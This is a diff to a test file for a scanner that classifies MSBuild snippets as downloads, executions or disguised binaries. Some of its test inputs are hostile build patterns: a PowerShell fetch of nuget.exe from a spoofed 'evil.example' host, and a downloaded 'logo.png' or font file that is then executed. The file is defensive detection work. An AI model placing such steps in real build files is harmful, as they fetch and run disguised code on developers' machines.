@@ -82,12 +82,22 @@ describe('MSBuild files as build code', () => {
     expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />')).toEqual(['download']);
     expect(msbuildKinds('<DownloadFile\n  SourceUrl="https://github.com/acme/tool/releases/download/v$(ToolVersion)/tool.zip"\n  DestinationFolder="$(IntermediateOutputPath)" />')).toEqual([]);
     expect(msbuildKinds('<DownloadFile SourceUrl="https://github.com/acme/tool/releases/download/v1.2.3/tool.zip" DestinationFolder="obj" />')).toEqual([]);
+    // NLog's projects fetch their package icon before packing: an image nothing runs.
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://nlog-project.org/N.png" DestinationFolder="$(MSBuildThisFileDirectory)" />')).toEqual([]);
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://cdn.example.com/assets/update" DestinationFileName="update.dat" DestinationFolder="obj" />')).toEqual(['download']);
+    expect(msbuildKinds('<DownloadFile SourceUrl="http://cdn.example.com/icon.png" DestinationFolder="obj" />')).toEqual(['download']);
   });
 
   it("leaves Visual Studio's old package restore alone: nuget.exe downloaded from nuget.org (serilog, AutoMapper history)", () => {
     expect(msbuildKinds('<Code Type="Fragment" Language="cs">\n  WebClient webClient = new WebClient();\n  webClient.DownloadFile("https://nuget.org/nuget.exe", OutputFilename);\n</Code>')).toEqual([]);
     expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['execute']);
     expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://nuget.org.evil.example/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['download', 'execute']);
+  });
+
+  it('reads a program named like data in Windows form as a binary in disguise', () => {
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://cdn.brand.example/logo.png" DestinationFolder="obj" />\n<Exec Command="obj\\logo.png --install" />')).toEqual(['disguised-binary', 'execute']);
+    expect(msbuildKinds('<PostBuildEvent>start "" "$(TargetDir)fonts\\glyphs.woff2"</PostBuildEvent>')).toEqual(['disguised-binary', 'execute']);
+    expect(msbuildKinds('<Exec Command="copy /Y logo.png $(OutDir)" />\n<Exec Command="&quot;$(OutDir)convert.exe&quot; icon.png icon.ico" />')).toEqual([]);
   });
 
   it('skips XML comments and text outside the command elements', () => {
